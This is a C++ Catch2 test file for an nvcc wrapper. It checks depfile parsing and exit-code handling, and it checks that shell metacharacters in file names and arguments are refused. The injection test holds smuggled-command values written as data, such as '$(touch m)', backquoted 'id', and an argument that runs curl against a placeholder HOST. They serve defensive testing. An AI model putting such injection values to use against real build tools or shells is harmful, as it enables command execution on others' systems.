// SPDX-License-Identifier: Apache-2.0
// Reading nvcc's dependency files, and what nvcc is never given.
#include "cuda/nvcc_unit.hpp"

#include <fstream>

#include <catch2/catch.hpp>

#include "support/temp_dir.hpp"

using namespace kforecast;
using namespace kforecast::cuda;
using Files = std::vector<std::string>;

TEST_CASE("nvcc depfile: the prerequisites of the first rule, continuations and escapes undone") {
  CHECK(parse_depfile("/tmp/x/unit.cubin : src/k.cu \\\n    include/lib/common.h \\\n    /usr/include/stdio.h\n") ==
        Files{"src/k.cu", "include/lib/common.h", "/usr/include/stdio.h"});
  CHECK(parse_depfile("out.cubin: a\\ b.h c$$d.h\n\na.h:\n") == Files{"a b.h", "c$d.h"});
  CHECK(parse_depfile("out.cubin: one.cu two.h\r\n") == Files{"one.cu", "two.h"});
}

TEST_CASE("nvcc depfile: text without a rule gives no files, and nothing is read past the text") {
  CHECK(parse_depfile("").empty());
  CHECK(parse_depfile("no rule here").empty());
  CHECK(parse_depfile("target:").empty());
  CHECK(parse_depfile("t: \\").empty());
  CHECK(parse_depfile("t: a\\") == Files{"a"});
  CHECK(parse_depfile(std::string_view("t: a\0b", 6)) == Files{std::string("a\0b", 3)});
}

// nvcc runs its steps through `sh -c`: the compiler refuses, before anything runs, any argument or
// file name a shell would act on, whichever caller built the request. The "nvcc" here is a file
// that would leave a marker if it ran.
TEST_CASE("nvcc unit: a file name or an argument a shell would act on is refused before nvcc runs") {
  kforecast::testing::TempDir tree;
  const auto marker = tree.path() / "ran";
  const auto fake_nvcc = tree.path() / "nvcc";
  {
    std::ofstream script(fake_nvcc);
    script << "#!/bin/sh\ntouch " << marker.string() << "\n";
  }
  std::filesystem::permissions(fake_nvcc, std::filesystem::perms::owner_all);
  NvccSettings settings;
  settings.nvcc = fake_nvcc.string();
  settings.program = KF_BINARY;
  const NvccUnitCompiler compiler(settings);
  const auto refused = [&](std::string unit, std::vector<std::string> arguments) {
    auto built = compiler.compile({tree.path(), std::move(unit), std::move(arguments), "sm_90"});
    REQUIRE_FALSE(built);
    CHECK(built.error().exit_code == ExitCode::could_not_run);
    return built.error().message;
  };
  CHECK(refused("a$(touch m).cu", {}).find("its file name 'a$(touch m).cu' holds '$'") != std::string::npos);
  CHECK(refused("a`id`.cu", {}).find("holds a backquote") != std::string::npos);
  CHECK(refused("a\"b.cu", {}).find("holds a double quote") != std::string::npos);
  CHECK(refused("k.cu", {"-DX=1$(curl -s http://HOST/x)"})
            .find("the argument '-DX=1$(curl -s http://HOST/x)' holds '$'") != std::string::npos);
  CHECK(refused("k.cu", {"-Iinc`id`"}).find("holds a backquote") != std::string::npos);
  CHECK(refused("k.cu", {"-Iin\"c"}).find("holds a double quote") != std::string::npos);
  CHECK(refused("k.cu", {"-DX=a\\b"}).find("holds a backslash") != std::string::npos);
  CHECK(refused("k.cu", {"-DX=1\ntouch m"}).find("holds a newline") != std::string::npos);
  CHECK_FALSE(std::filesystem::exists(marker));
}

// nvcc exits 255 when a stage fails (ptxas on an unresolved extern, say): a compile error with
// its log, not a crash. An exit status above 128 was once read as a signal and the log dropped.
TEST_CASE("nvcc unit: nvcc exiting 255 is a compile error with its log, not a crash") {
  kforecast::testing::TempDir tree;
  std::filesystem::create_directories(tree.path() / "bin");
  const auto fake_nvcc = tree.path() / "bin" / "nvcc";
  std::ofstream(fake_nvcc) << "#!/bin/sh\necho \"ptxas fatal   : Unresolved extern function 'helper'\" >&2\nexit 255\n";
  std::filesystem::permissions(fake_nvcc, std::filesystem::perms::owner_all);
  std::ofstream(tree.path() / "k.cu") << "__global__ void k() {}\n";
  NvccSettings settings;
  settings.nvcc = fake_nvcc.string();
  settings.program = KF_BINARY;
  const auto built = NvccUnitCompiler(settings).compile({tree.path(), "k.cu", {}, "sm_90"});
  REQUIRE_FALSE(built);
  CHECK(built.error().exit_code == ExitCode::gate_failed);
  CHECK(built.error().message.find("Unresolved extern function 'helper'") != std::string::npos);
  CHECK(built.error().message.find("crashed") == std::string::npos);
}
